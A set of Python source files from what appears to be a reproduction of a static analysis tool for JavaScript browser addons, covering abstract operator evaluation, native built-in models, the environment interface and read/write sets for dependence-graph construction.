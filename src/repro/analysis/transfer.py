"""Abstract evaluation of JavaScript operators.

These are the value-level transfer functions used by the interpreter:
binary and unary operators over :class:`AbstractValue`. They aim for the
same precision profile as the paper's base analysis: string concatenation
is precise through the prefix domain (Section 5 — this is what network
domain inference rests on), arithmetic is constant-precise, comparisons
are constant-precise and otherwise ⊤-boolean.
"""

from __future__ import annotations

from repro.domains import bools, numbers
from repro.domains import prefix as prefix_domain
from repro.domains import values as values_domain
from repro.domains.prefix import Prefix
from repro.domains.values import AbstractValue

_ARITHMETIC = frozenset({"-", "*", "/", "%", "&", "|", "^", "<<", ">>", ">>>"})
_COMPARISON = frozenset({"==", "!=", "===", "!==", "<", ">", "<=", ">="})


def binary_op(operator: str, left: AbstractValue, right: AbstractValue) -> AbstractValue:
    """Abstract evaluation of a JS binary operator. The result is
    interned: re-evaluating the same statement across fixpoint rounds
    yields the *same* object, which keeps downstream identity fast paths
    (state joins, persistent-map merges) hot."""
    return values_domain.interned(_binary_op(operator, left, right))


def _binary_op(operator: str, left: AbstractValue, right: AbstractValue) -> AbstractValue:
    if left.is_bottom or right.is_bottom:
        return values_domain.BOTTOM
    if operator == "+":
        return _plus(left, right)
    if operator in _ARITHMETIC:
        return AbstractValue(
            number=numbers.binary_op(
                operator, _to_number(left), _to_number(right)
            )
        )
    if operator in _COMPARISON:
        return AbstractValue(boolean=_compare(operator, left, right))
    if operator in ("in", "instanceof"):
        return values_domain.ANY_BOOL
    raise ValueError(f"unknown binary operator {operator!r}")


def unary_op(operator: str, operand: AbstractValue) -> AbstractValue:
    """Abstract evaluation of a JS unary operator; result interned (see
    :func:`binary_op`)."""
    return values_domain.interned(_unary_op(operator, operand))


def _unary_op(operator: str, operand: AbstractValue) -> AbstractValue:
    if operand.is_bottom:
        return values_domain.BOTTOM
    if operator == "!":
        may_true = operand.may_be_falsy()
        may_false = operand.may_be_truthy()
        return AbstractValue(boolean=bools.AbstractBool(may_true, may_false))
    if operator == "-":
        number = _to_number(operand)
        concrete = number.concrete()
        if concrete is not None:
            return AbstractValue(number=numbers.constant(-concrete))
        return AbstractValue(number=number)
    if operator == "+":
        return AbstractValue(number=_to_number(operand))
    if operator == "~":
        result = numbers.binary_op("^", _to_number(operand), numbers.constant(-1.0))
        return AbstractValue(number=result)
    if operator == "typeof":
        return AbstractValue(string=_typeof(operand))
    if operator == "void":
        return values_domain.UNDEF
    if operator == "delete":
        return values_domain.ANY_BOOL
    raise ValueError(f"unknown unary operator {operator!r}")


def truthy_outcomes(value: AbstractValue) -> tuple[bool, bool]:
    """(may take the true branch, may take the false branch)."""
    return value.may_be_truthy(), value.may_be_falsy()


# ----------------------------------------------------------------------
# Helpers


def _plus(left: AbstractValue, right: AbstractValue) -> AbstractValue:
    """JS ``+``: string concatenation if either side may be a string (or
    an object coercing to one), numeric addition otherwise — abstractly,
    both outcomes are joined when both are possible."""
    result = values_domain.BOTTOM
    left_stringy = _may_be_stringy(left)
    right_stringy = _may_be_stringy(right)
    if left_stringy or right_stringy:
        concat = _to_string(left).concat(_to_string(right))
        result = result.join(AbstractValue(string=concat))
    if _may_be_numbery(left) and _may_be_numbery(right):
        total = numbers.binary_op("+", _to_number(left), _to_number(right))
        result = result.join(AbstractValue(number=total))
    if result.is_bottom:
        # Both sides defined but neither combination fired (e.g. two
        # objects): the result is some string or number.
        result = values_domain.ANY_STRING.join(values_domain.ANY_NUMBER)
    return result


def _may_be_stringy(value: AbstractValue) -> bool:
    return not value.string.is_bottom or bool(value.addresses)


def _may_be_numbery(value: AbstractValue) -> bool:
    return (
        value.may_undef
        or value.may_null
        or not value.boolean.is_bottom
        or not value.number.is_bottom
        or bool(value.addresses)
    )


def _to_string(value: AbstractValue) -> Prefix:
    """JS ToString as an abstract string (same coercions as property
    names)."""
    return value.to_property_name()


def _to_number(value: AbstractValue) -> numbers.AbstractNumber:
    """JS ToNumber, constant-precise."""
    result = numbers.BOTTOM
    if value.may_undef:
        result = result.join(numbers.constant(float("nan")))
    if value.may_null:
        result = result.join(numbers.constant(0.0))
    concrete_bool = value.boolean.concrete()
    if concrete_bool is not None:
        result = result.join(numbers.constant(1.0 if concrete_bool else 0.0))
    elif not value.boolean.is_bottom:
        result = result.join(numbers.TOP)
    result = result.join(value.number)
    if not value.string.is_bottom:
        text = value.string.concrete()
        if text is None:
            result = result.join(numbers.TOP)
        else:
            result = result.join(numbers.constant(_string_to_number(text)))
    if value.addresses:
        result = result.join(numbers.TOP)
    return result


def _string_to_number(text: str) -> float:
    stripped = text.strip()
    if stripped == "":
        return 0.0
    try:
        if stripped.lower().startswith("0x"):
            return float(int(stripped, 16))
        return float(stripped)
    except ValueError:
        return float("nan")


def _compare(operator: str, left: AbstractValue, right: AbstractValue) -> bools.AbstractBool:
    """Comparisons: precise when both sides are single constants of the
    same primitive type, ⊤ otherwise."""
    left_const = _single_constant(left)
    right_const = _single_constant(right)
    if left_const is None or right_const is None:
        return bools.TOP
    lv, rv = left_const, right_const
    try:
        if operator in ("==", "==="):
            outcome = lv == rv and type(lv) == type(rv)
        elif operator in ("!=", "!=="):
            outcome = not (lv == rv and type(lv) == type(rv))
        elif operator == "<":
            outcome = lv < rv
        elif operator == ">":
            outcome = lv > rv
        elif operator == "<=":
            outcome = lv <= rv
        else:
            outcome = lv >= rv
    except TypeError:
        return bools.TOP
    return bools.from_bool(bool(outcome))


def _single_constant(value: AbstractValue) -> object | None:
    """The unique primitive constant a value denotes, or None."""
    kinds_present = sum(
        [
            value.may_undef,
            value.may_null,
            not value.boolean.is_bottom,
            not value.number.is_bottom,
            not value.string.is_bottom,
            bool(value.addresses),
        ]
    )
    if kinds_present != 1:
        return None
    if not value.number.is_bottom:
        return value.number.concrete()
    if not value.string.is_bottom:
        return value.string.concrete()
    if not value.boolean.is_bottom:
        return value.boolean.concrete()
    if value.may_undef or value.may_null:
        # undefined/null are unique values; model them as sentinels that
        # only compare equal to themselves.
        return ("undef",) if value.may_undef else ("null",)
    return None


def _typeof(value: AbstractValue) -> Prefix:
    outcomes: set[str] = set()
    if value.may_undef:
        outcomes.add("undefined")
    if value.may_null:
        outcomes.add("object")  # the famous typeof null
    if not value.boolean.is_bottom:
        outcomes.add("boolean")
    if not value.number.is_bottom:
        outcomes.add("number")
    if not value.string.is_bottom:
        outcomes.add("string")
    if value.addresses:
        outcomes.update({"object", "function"})
    if len(outcomes) == 1:
        return prefix_domain.exact(outcomes.pop())
    result = prefix_domain.BOTTOM
    for outcome in outcomes:
        result = result.join(prefix_domain.exact(outcome))
    return result
