"""The environment interface between the interpreter and native APIs.

The paper extends JSAI with "manually-written stubs for the native APIs
(e.g. DOM and XPCOM APIs)". We mirror that split: the interpreter knows
nothing about the browser; an :class:`Environment` contributes

- initial global bindings and pre-allocated heap objects (``setup``),
- implementations for native callables, keyed by their ``native`` tag
  (``natives``),
- the abstract event object handed to event handlers by the synthetic
  event loop, and the global ``this``.

:mod:`repro.browser.env` provides the full browser environment;
:class:`DefaultEnvironment` (language built-ins only) serves plain-script
analyses and tests.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Protocol

from repro.domains import values as values_domain
from repro.domains.state import State
from repro.domains.values import AbstractValue

if TYPE_CHECKING:
    from repro.analysis.contexts import Context
    from repro.analysis.interpreter import Interpreter
    from repro.ir.nodes import Stmt


@dataclass
class NativeCall:
    """Everything a native stub sees about one abstract call.

    Stubs may mutate ``state`` (it is the post-call state being built) and
    may use ``interpreter`` services: ``alloc_at`` for site-keyed heap
    allocation and ``register_event_handler`` for listener registration.
    """

    interpreter: "Interpreter"
    state: State
    stmt: "Stmt"
    context: "Context"
    this: AbstractValue
    args: list[AbstractValue]
    is_construct: bool = False

    def arg(self, index: int) -> AbstractValue:
        """The index-th argument, or ``undefined`` when absent."""
        if index < len(self.args):
            return self.args[index]
        return values_domain.UNDEF


#: A native implementation: receives the call, returns the result value.
NativeImpl = Callable[[NativeCall], AbstractValue]


class Environment(Protocol):
    """What the interpreter needs from its hosting environment."""

    #: Native implementations by tag.
    natives: dict[str, NativeImpl]

    def setup(self, state: State, interpreter: "Interpreter") -> None:
        """Populate the initial state (globals + pre-allocated objects)."""
        ...

    def event_value(self, state: State) -> AbstractValue:
        """The abstract event object passed to event-loop handlers."""
        ...

    def global_this(self, state: State) -> AbstractValue:
        """The value of ``this`` in functions called without a receiver."""
        ...


@dataclass
class DefaultEnvironment:
    """Language built-ins only — no browser APIs."""

    natives: dict[str, NativeImpl] = field(default_factory=dict)

    def setup(self, state: State, interpreter: "Interpreter") -> None:
        return None

    def event_value(self, state: State) -> AbstractValue:
        return values_domain.UNDEF

    def global_this(self, state: State) -> AbstractValue:
        return values_domain.UNDEF
