"""The base analysis (the JSAI role in the paper's pipeline).

A flow- and context-sensitive abstract interpreter computing a reduced
product of pointer, string (prefix domain), and control-flow analysis,
plus the per-statement read/write sets the annotated PDG construction
consumes.
"""

from repro.analysis.contexts import (
    EMPTY_CONTEXT,
    CallSiteSensitivity,
    Context,
)
from repro.analysis.environment import (
    DefaultEnvironment,
    Environment,
    NativeCall,
    NativeImpl,
)
from repro.analysis.interpreter import (
    RETURN_SLOT,
    exception_slot,
    AnalysisBudgetExceeded,
    AnalysisResult,
    Interpreter,
    analyze,
)
from repro.analysis.readwrite import PropAccess, ReadWriteSets, RWSet

__all__ = [
    "analyze",
    "Interpreter",
    "AnalysisResult",
    "AnalysisBudgetExceeded",
    "CallSiteSensitivity",
    "Context",
    "EMPTY_CONTEXT",
    "Environment",
    "DefaultEnvironment",
    "NativeCall",
    "NativeImpl",
    "ReadWriteSets",
    "RWSet",
    "PropAccess",
    "RETURN_SLOT",
    "exception_slot",
]
