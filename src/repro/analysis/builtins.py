"""Language built-ins: String/Array/Object methods and global functions.

Addons lean on a small set of ECMAScript built-ins (string slicing and
concatenation while assembling URLs, array iteration, ``encodeURIComponent``
before a network send, ...). This module models them as native objects at
fixed negative heap addresses:

- string method results stay as precise as the prefix domain allows
  (``concat`` is exact/prefix-preserving; ``toLowerCase``/``substring``/
  ``replace`` are computed when the receiver and arguments are exact),
- everything else degrades soundly to ⊤ of the right type.

The interpreter consults :data:`STRING_METHODS` / :data:`ARRAY_METHODS` /
:data:`OBJECT_METHODS` when a property read on a primitive string or an
object misses its own properties.
"""

from __future__ import annotations

import urllib.parse

from repro.analysis.environment import NativeCall, NativeImpl
from repro.domains import prefix as prefix_domain
from repro.domains import values as values_domain
from repro.domains.objects import AbstractObject, native_object
from repro.domains.prefix import Prefix
from repro.domains.state import State
from repro.domains.values import AbstractValue

#: Pre-allocated address of the generic error object used as the value of
#: implicit exceptions.
ERROR_ADDRESS = -9

#: The value bound to a catch parameter for implicit exceptions.
ERROR_VALUE = AbstractValue(addresses=frozenset({ERROR_ADDRESS}))

_UNKNOWN = (
    values_domain.UNDEF
    .join(values_domain.NULL)
    .join(values_domain.ANY_BOOL)
    .join(values_domain.ANY_NUMBER)
    .join(values_domain.ANY_STRING)
)


def unknown_value() -> AbstractValue:
    """A sound "could be any primitive" result for unmodeled operations."""
    return _UNKNOWN


# ----------------------------------------------------------------------
# String methods


def _this_string(call: NativeCall) -> Prefix:
    return call.this.to_property_name()


def _arg_string(call: NativeCall, index: int) -> Prefix:
    return call.arg(index).to_property_name()


def _string_concat(call: NativeCall) -> AbstractValue:
    result = _this_string(call)
    for index in range(len(call.args)):
        result = result.concat(_arg_string(call, index))
    return values_domain.from_string(result)


def _string_case(upper: bool):
    def impl(call: NativeCall) -> AbstractValue:
        this = _this_string(call)
        text = this.concrete()
        if text is not None:
            return values_domain.from_constant(
                text.upper() if upper else text.lower()
            )
        if this.is_bottom:
            return values_domain.BOTTOM
        assert this.text is not None
        transformed = this.text.upper() if upper else this.text.lower()
        return values_domain.from_string(prefix_domain.prefix(transformed))
    return impl


def _string_substring(call: NativeCall) -> AbstractValue:
    this = _this_string(call)
    text = this.concrete()
    start = call.arg(0).number.concrete()
    end = call.arg(1).number.concrete()
    if text is not None and start is not None:
        begin = max(0, int(start))
        if call.arg(0) is not values_domain.UNDEF and end is not None:
            return values_domain.from_constant(text[begin:int(end)])
        if call.arg(1).may_undef and end is None:
            return values_domain.from_constant(text[begin:])
    return values_domain.ANY_STRING


def _string_char_at(call: NativeCall) -> AbstractValue:
    this = _this_string(call)
    text = this.concrete()
    index = call.arg(0).number.concrete()
    if text is not None and index is not None:
        position = int(index)
        if 0 <= position < len(text):
            return values_domain.from_constant(text[position])
        return values_domain.from_constant("")
    return values_domain.ANY_STRING


def _string_replace(call: NativeCall) -> AbstractValue:
    this = _this_string(call)
    pattern = call.arg(0).string.concrete()
    replacement = call.arg(1).string.concrete()
    text = this.concrete()
    if text is not None and pattern is not None and replacement is not None:
        # String patterns replace the first occurrence only (ES5).
        return values_domain.from_constant(text.replace(pattern, replacement, 1))
    return values_domain.ANY_STRING


def _string_split(call: NativeCall) -> AbstractValue:
    address = call.interpreter.alloc_at(
        call.stmt.sid, salt=1,
        obj=AbstractObject(kind="array", unknown=values_domain.ANY_STRING),
        state=call.state,
    )
    return values_domain.from_addresses(address)


def _string_match(call: NativeCall) -> AbstractValue:
    address = call.interpreter.alloc_at(
        call.stmt.sid, salt=2,
        obj=AbstractObject(kind="array", unknown=values_domain.ANY_STRING),
        state=call.state,
    )
    return values_domain.from_addresses(address).join(values_domain.NULL)


def _string_index_of(call: NativeCall) -> AbstractValue:
    this = _this_string(call)
    needle = call.arg(0).string.concrete()
    text = this.concrete()
    if text is not None and needle is not None:
        return values_domain.from_constant(float(text.find(needle)))
    return values_domain.ANY_NUMBER


def _any_number(call: NativeCall) -> AbstractValue:
    return values_domain.ANY_NUMBER


def _any_string(call: NativeCall) -> AbstractValue:
    return values_domain.ANY_STRING


def _any_bool(call: NativeCall) -> AbstractValue:
    return values_domain.ANY_BOOL


def _identity_string(call: NativeCall) -> AbstractValue:
    return values_domain.from_string(_this_string(call))


STRING_METHODS: dict[str, NativeImpl] = {
    "concat": _string_concat,
    "toLowerCase": _string_case(upper=False),
    "toUpperCase": _string_case(upper=True),
    "substring": _string_substring,
    "substr": _string_substring,
    "slice": _string_substring,
    "charAt": _string_char_at,
    "charCodeAt": _any_number,
    "replace": _string_replace,
    "split": _string_split,
    "match": _string_match,
    "indexOf": _string_index_of,
    "lastIndexOf": _any_number,
    "search": _any_number,
    "trim": _any_string,
    "toString": _identity_string,
    "valueOf": _identity_string,
}


# ----------------------------------------------------------------------
# Array and object methods


def _array_push(call: NativeCall) -> AbstractValue:
    for index in range(len(call.args)):
        call.state.heap.write(
            call.this.addresses, prefix_domain.TOP, call.arg(index)
        )
    return values_domain.ANY_NUMBER


def _array_pop(call: NativeCall) -> AbstractValue:
    return call.state.heap.read(call.this.addresses, prefix_domain.TOP)


def _array_join(call: NativeCall) -> AbstractValue:
    return values_domain.ANY_STRING


def _array_slice(call: NativeCall) -> AbstractValue:
    elements = call.state.heap.read(call.this.addresses, prefix_domain.TOP)
    address = call.interpreter.alloc_at(
        call.stmt.sid, salt=3,
        obj=AbstractObject(kind="array", unknown=elements),
        state=call.state,
    )
    return values_domain.from_addresses(address)


ARRAY_METHODS: dict[str, NativeImpl] = {
    "push": _array_push,
    "pop": _array_pop,
    "shift": _array_pop,
    "unshift": _array_push,
    "join": _array_join,
    "slice": _array_slice,
    "concat": _array_slice,
    "indexOf": _any_number,
    "splice": _array_slice,
}

OBJECT_METHODS: dict[str, NativeImpl] = {
    "hasOwnProperty": _any_bool,
    "toString": _any_string,
    "valueOf": lambda call: call.this,
}


# ----------------------------------------------------------------------
# Global functions


def _parse_int(call: NativeCall) -> AbstractValue:
    text = call.arg(0).string.concrete()
    if text is not None:
        try:
            return values_domain.from_constant(float(int(text.strip() or "x")))
        except ValueError:
            return values_domain.from_constant(float("nan"))
    return values_domain.ANY_NUMBER


def _encode_uri_component(call: NativeCall) -> AbstractValue:
    source = call.arg(0).to_property_name()
    if source.is_bottom:
        return values_domain.BOTTOM
    assert source.text is not None
    encoded = urllib.parse.quote(source.text, safe="!'()*-._~")
    # Percent-encoding is prefix-preserving character by character, so an
    # abstract prefix encodes to an abstract prefix.
    return values_domain.from_string(Prefix(encoded, source.is_exact))


def _decode_uri_component(call: NativeCall) -> AbstractValue:
    source = call.arg(0).string.concrete()
    if source is not None:
        return values_domain.from_constant(urllib.parse.unquote(source))
    return values_domain.ANY_STRING


def _string_constructor(call: NativeCall) -> AbstractValue:
    return values_domain.from_string(call.arg(0).to_property_name())


GLOBAL_FUNCTIONS: dict[str, NativeImpl] = {
    "parseInt": _parse_int,
    "parseFloat": _parse_int,
    "isNaN": _any_bool,
    "encodeURIComponent": _encode_uri_component,
    "encodeURI": _encode_uri_component,
    "decodeURIComponent": _decode_uri_component,
    "decodeURI": _decode_uri_component,
    "String": _string_constructor,
    "Number": _any_number,
    "Boolean": _any_bool,
}

MATH_METHODS: dict[str, NativeImpl] = {
    "random": _any_number,
    "floor": _any_number,
    "ceil": _any_number,
    "round": _any_number,
    "abs": _any_number,
    "max": _any_number,
    "min": _any_number,
}

JSON_METHODS: dict[str, NativeImpl] = {
    "stringify": _any_string,
    "parse": lambda call: unknown_value(),
}


# ----------------------------------------------------------------------
# Installation

#: tag -> implementation, for every builtin native.
NATIVE_TABLE: dict[str, NativeImpl] = {}

#: Heap effects per native tag, consumed by the read/write-set
#: computation so data flow through native methods shows up in the DDG.
#: Flags: "read_this_props", "write_this_props", "read_arg_props",
#: "write_arg_props". Tags absent from this table are pure (their only
#: flow is args -> result, which the call statement itself captures).
NATIVE_EFFECTS: dict[str, frozenset[str]] = {
    "array.push": frozenset({"write_this_props"}),
    "array.unshift": frozenset({"write_this_props"}),
    "array.pop": frozenset({"read_this_props", "write_this_props"}),
    "array.shift": frozenset({"read_this_props", "write_this_props"}),
    "array.join": frozenset({"read_this_props"}),
    "array.slice": frozenset({"read_this_props"}),
    "array.concat": frozenset({"read_this_props", "read_arg_props"}),
    "array.splice": frozenset({"read_this_props", "write_this_props"}),
    "json.stringify": frozenset({"read_arg_props"}),
}

#: The conservative effect set assumed for completely unknown callees.
UNKNOWN_CALL_EFFECTS = frozenset(
    {"read_this_props", "write_this_props", "read_arg_props", "write_arg_props"}
)

#: method name -> fixed heap address, per family.
_STRING_METHOD_ADDRESSES: dict[str, int] = {}
_ARRAY_METHOD_ADDRESSES: dict[str, int] = {}
_OBJECT_METHOD_ADDRESSES: dict[str, int] = {}
_GLOBAL_ADDRESSES: dict[str, int] = {}

_next_address = -100


def _reserve(tag: str, impl: NativeImpl) -> int:
    global _next_address
    address = _next_address
    _next_address -= 1
    NATIVE_TABLE[tag] = impl
    return address


for _name, _impl in STRING_METHODS.items():
    _STRING_METHOD_ADDRESSES[_name] = _reserve(f"string.{_name}", _impl)
for _name, _impl in ARRAY_METHODS.items():
    _ARRAY_METHOD_ADDRESSES[_name] = _reserve(f"array.{_name}", _impl)
for _name, _impl in OBJECT_METHODS.items():
    _OBJECT_METHOD_ADDRESSES[_name] = _reserve(f"object.{_name}", _impl)
for _name, _impl in GLOBAL_FUNCTIONS.items():
    _GLOBAL_ADDRESSES[_name] = _reserve(f"global.{_name}", _impl)

_MATH_ADDRESS = _next_address
_next_address -= 1
_MATH_METHOD_ADDRESSES = {
    name: _reserve(f"math.{name}", impl) for name, impl in MATH_METHODS.items()
}
_JSON_ADDRESS = _next_address
_next_address -= 1
_JSON_METHOD_ADDRESSES = {
    name: _reserve(f"json.{name}", impl) for name, impl in JSON_METHODS.items()
}

_TAG_OF_ADDRESS: dict[int, str] = {}
for _family, _addresses in (
    ("string", _STRING_METHOD_ADDRESSES),
    ("array", _ARRAY_METHOD_ADDRESSES),
    ("object", _OBJECT_METHOD_ADDRESSES),
    ("global", _GLOBAL_ADDRESSES),
    ("math", _MATH_METHOD_ADDRESSES),
    ("json", _JSON_METHOD_ADDRESSES),
):
    for _name, _address in _addresses.items():
        _TAG_OF_ADDRESS[_address] = f"{_family}.{_name}"


def string_method_address(name: str) -> int | None:
    return _STRING_METHOD_ADDRESSES.get(name)


def array_method_address(name: str) -> int | None:
    return _ARRAY_METHOD_ADDRESSES.get(name)


def object_method_address(name: str) -> int | None:
    return _OBJECT_METHOD_ADDRESSES.get(name)


def install(state: State) -> None:
    """Pre-allocate builtin objects in the heap and bind the globals."""
    from repro.ir.nodes import GLOBAL_SCOPE, Var

    heap = state.heap
    heap.allocate(ERROR_ADDRESS, native_object("error"))
    heap.drop_singleton(ERROR_ADDRESS)  # summarizes all errors

    for family_addresses in (
        _STRING_METHOD_ADDRESSES,
        _ARRAY_METHOD_ADDRESSES,
        _OBJECT_METHOD_ADDRESSES,
        _GLOBAL_ADDRESSES,
        _MATH_METHOD_ADDRESSES,
        _JSON_METHOD_ADDRESSES,
    ):
        for address in family_addresses.values():
            heap.allocate(address, native_object(_TAG_OF_ADDRESS[address], kind="function"))

    for name, address in _GLOBAL_ADDRESSES.items():
        state.write_var(Var(name, GLOBAL_SCOPE), values_domain.from_addresses(address))

    math_obj = AbstractObject(
        kind="native",
        native="math",
        properties=tuple(
            sorted(
                (name, values_domain.from_addresses(address))
                for name, address in _MATH_METHOD_ADDRESSES.items()
            )
        ),
    )
    heap.allocate(_MATH_ADDRESS, math_obj)
    state.write_var(Var("Math", GLOBAL_SCOPE), values_domain.from_addresses(_MATH_ADDRESS))

    json_obj = AbstractObject(
        kind="native",
        native="json",
        properties=tuple(
            sorted(
                (name, values_domain.from_addresses(address))
                for name, address in _JSON_METHOD_ADDRESSES.items()
            )
        ),
    )
    heap.allocate(_JSON_ADDRESS, json_obj)
    state.write_var(Var("JSON", GLOBAL_SCOPE), values_domain.from_addresses(_JSON_ADDRESS))
