"""Per-statement read/write sets (Section 3.2's analysis input).

For every reachable ``(statement, context)`` pair this module computes

- ``ReadVar`` / ``WriteVar``: variables (as ``(scope, name)`` keys) the
  statement may read/write, each qualified strong (definite) or weak;
- ``ReadProp`` / ``WriteProp``: ``(object address, abstract property
  name)`` pairs, where the name is an element of the prefix string domain
  and the strong qualification requires a singleton address *and* an
  exact name (the paper's "single concrete memory location" criterion).

Interprocedural flow is encoded through two synthetic variables per
function: a call statement *writes* the callee's parameters and *reads*
its ``%ret`` slot; ``return`` writes ``%ret``. ``throw`` writes and
``catch`` reads the per-function ``%exc`` slot. This gives the DDG its
parameter/return/exception data edges with no special cases.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis import builtins
from repro.analysis.contexts import Context
from repro.analysis.interpreter import (
    RETURN_SLOT,
    AnalysisResult,
    channel_slot,
    exception_slot,
)
from repro.domains import prefix as prefix_domain
from repro.domains.prefix import Prefix
from repro.domains.state import State, VarKey
from repro.domains.values import AbstractValue
from repro.ir.nodes import (
    AllocStmt,
    EdgeKind,
    AssignStmt,
    Atom,
    AtomRhs,
    BinOpRhs,
    BranchStmt,
    CallStmt,
    CatchStmt,
    ClosureStmt,
    ConstructStmt,
    DeletePropStmt,
    EventLoopStmt,
    ForInNextStmt,
    LoadPropStmt,
    ReturnStmt,
    StorePropStmt,
    ThrowStmt,
    UnOpRhs,
    Var,
)


@dataclass(frozen=True)
class PropAccess:
    """One (object, property) access with its strength."""

    address: int
    name: Prefix
    strong: bool


@dataclass
class RWSet:
    """Read/write sets of one (statement, context)."""

    read_vars: dict[VarKey, bool] = field(default_factory=dict)
    write_vars: dict[VarKey, bool] = field(default_factory=dict)
    read_props: list[PropAccess] = field(default_factory=list)
    write_props: list[PropAccess] = field(default_factory=list)

    def add_read_var(self, key: VarKey, strong: bool) -> None:
        self.read_vars[key] = self.read_vars.get(key, True) and strong

    def add_write_var(self, key: VarKey, strong: bool) -> None:
        self.write_vars[key] = self.write_vars.get(key, True) and strong

    def add_read_prop(self, access: PropAccess) -> None:
        self.read_props.append(access)

    def add_write_prop(self, access: PropAccess) -> None:
        self.write_props.append(access)


class ReadWriteSets:
    """Computes and caches RWSets from the base analysis result."""

    def __init__(self, result: AnalysisResult):
        self.result = result
        self.program = result.program
        self.multi_instance = result.multi_instance
        #: A salvaged (budget-tripped) analysis abandoned fixpoint work,
        #: so its states may under-approximate: no access may claim a
        #: strong (definite, killing) qualification. All-weak sets keep
        #: every potential dependence edge alive — the over-approximate
        #: direction (DESIGN.md, "Failure modes and degradation
        #: semantics").
        self.degraded = result.degraded
        self._cache: dict[tuple[int, Context], RWSet] = {}

    # ------------------------------------------------------------------
    # Public interface

    def of(self, sid: int, context: Context) -> RWSet:
        key = (sid, context)
        cached = self._cache.get(key)
        if cached is None:
            cached = self._compute(sid, context)
            self._cache[key] = cached
        return cached

    # ------------------------------------------------------------------
    # Strength rules

    def _strong_var(self, var_scope: int, sid: int) -> bool:
        if self.degraded:
            return False
        if var_scope == -1:  # global
            return True
        return (
            var_scope == self.program.owner[sid]
            and var_scope not in self.multi_instance
        )

    def _prop_accesses(
        self, state: State, base: AbstractValue, name: Prefix
    ) -> list[PropAccess]:
        addresses = sorted(base.addresses)
        exact = name.concrete() is not None
        single = len(addresses) == 1
        accesses = []
        for address in addresses:
            strong = (
                not self.degraded
                and single and exact and state.heap.is_singleton(address)
            )
            accesses.append(PropAccess(address, name, strong))
        return accesses

    # ------------------------------------------------------------------
    # Computation

    def _compute(self, sid: int, context: Context) -> RWSet:
        rw = RWSet()
        state = self.result.states.get((sid, context))
        if state is None:
            return rw
        stmt = self.program.stmts[sid]
        fid = self.program.owner[sid]

        def read_atom(atom: Atom | None) -> AbstractValue:
            if atom is None:
                return AbstractValue()
            if isinstance(atom, Var):
                rw.add_read_var(
                    (atom.scope, atom.name), self._strong_var(atom.scope, sid)
                )
            return self.result.atom_value(sid, context, atom)

        def write_var(var: Var) -> None:
            rw.add_write_var(
                (var.scope, var.name), self._strong_var(var.scope, sid)
            )

        def write_exception_slots(weak_only: bool = True) -> None:
            """Record the %exc writes of a (possibly) throwing statement,
            one per reachable handler. Uncaught exceptions write nothing
            (termination, out of scope)."""
            kinds = (EdgeKind.IMPLICIT,) if weak_only else (EdgeKind.JUMP,)
            for edge in stmt.edges:
                if edge.kind in kinds:
                    rw.add_write_var(
                        (fid, exception_slot(edge.target)),
                        False if weak_only else self._strong_var(fid, sid),
                    )

        if isinstance(stmt, AssignStmt):
            rhs = stmt.rhs
            if isinstance(rhs, AtomRhs):
                read_atom(rhs.atom)
            elif isinstance(rhs, BinOpRhs):
                read_atom(rhs.left)
                read_atom(rhs.right)
            elif isinstance(rhs, UnOpRhs):
                read_atom(rhs.operand)
            write_var(stmt.target)

        elif isinstance(stmt, LoadPropStmt):
            base = read_atom(stmt.obj)
            name = read_atom(stmt.prop).to_property_name()
            for access in self._prop_accesses(state, base, name):
                rw.add_read_prop(access)
            write_var(stmt.target)
            if sid in self.result.throwing:
                write_exception_slots()

        elif isinstance(stmt, StorePropStmt):
            base = read_atom(stmt.obj)
            name = read_atom(stmt.prop).to_property_name()
            read_atom(stmt.value)
            for access in self._prop_accesses(state, base, name):
                rw.add_write_prop(access)
            if sid in self.result.throwing:
                write_exception_slots()

        elif isinstance(stmt, DeletePropStmt):
            base = read_atom(stmt.obj)
            name = read_atom(stmt.prop).to_property_name()
            for access in self._prop_accesses(state, base, name):
                rw.add_write_prop(access)
            if sid in self.result.throwing:
                write_exception_slots()

        elif isinstance(stmt, (AllocStmt, ClosureStmt)):
            write_var(stmt.target)

        elif isinstance(stmt, (CallStmt, ConstructStmt)):
            self._compute_call(stmt, sid, context, state, rw, read_atom, write_var)

        elif isinstance(stmt, BranchStmt):
            read_atom(stmt.condition)

        elif isinstance(stmt, ReturnStmt):
            read_atom(stmt.value)
            rw.add_write_var(
                (fid, RETURN_SLOT), self._strong_var(fid, sid)
            )

        elif isinstance(stmt, ThrowStmt):
            read_atom(stmt.value)
            write_exception_slots(weak_only=False)

        elif isinstance(stmt, CatchStmt):
            rw.add_read_var(
                (fid, exception_slot(sid)), self._strong_var(fid, sid)
            )
            write_var(stmt.target)

        elif isinstance(stmt, ForInNextStmt):
            base = read_atom(stmt.obj)
            for address in sorted(base.addresses):
                rw.add_read_prop(PropAccess(address, prefix_domain.TOP, False))
            write_var(stmt.target)

        elif isinstance(stmt, EventLoopStmt):
            self._compute_event_loop(sid, state, rw)

        return rw

    def _compute_call(self, stmt, sid, context, state, rw, read_atom, write_var):
        callee = read_atom(stmt.callee)
        this_value = read_atom(stmt.this) if getattr(stmt, "this", None) is not None else AbstractValue()
        arg_values = [read_atom(arg) for arg in stmt.args]
        if stmt.target is not None:
            write_var(stmt.target)
        if sid in self.result.throwing:
            fid = self.program.owner[sid]
            for edge in stmt.edges:
                if edge.kind is EdgeKind.IMPLICIT:
                    rw.add_write_var((fid, exception_slot(edge.target)), False)

        # Closure callees: the call writes params/this and reads %ret.
        callee_fids = {
            fid
            for (node_sid, node_ctx), targets in self.result.call_edges.items()
            if node_sid == sid and node_ctx == context
            for fid, _ in targets
        }
        single_callee = len(callee_fids) == 1
        for callee_fid in sorted(callee_fids):
            strong = single_callee and callee_fid not in self.multi_instance
            function = self.program.functions[callee_fid]
            for param in function.params:
                rw.add_write_var((callee_fid, param), strong)
            rw.add_write_var((callee_fid, "this"), strong)
            rw.add_read_var((callee_fid, RETURN_SLOT), strong)

        # Native callees: apply declared heap effects.
        effects: set[str] = set()
        for tag in self.result.callee_native_tags(sid):
            effects |= builtins.NATIVE_EFFECTS.get(tag, frozenset())
        if sid in self.result.unknown_callees:
            effects |= builtins.UNKNOWN_CALL_EFFECTS
        if effects:
            self._apply_native_effects(
                effects, state, this_value, arg_values, rw
            )

    def _apply_native_effects(self, effects, state, this_value, arg_values, rw):
        def weak_accesses(value: AbstractValue) -> list[PropAccess]:
            return [
                PropAccess(address, prefix_domain.TOP, False)
                for address in sorted(value.addresses)
            ]

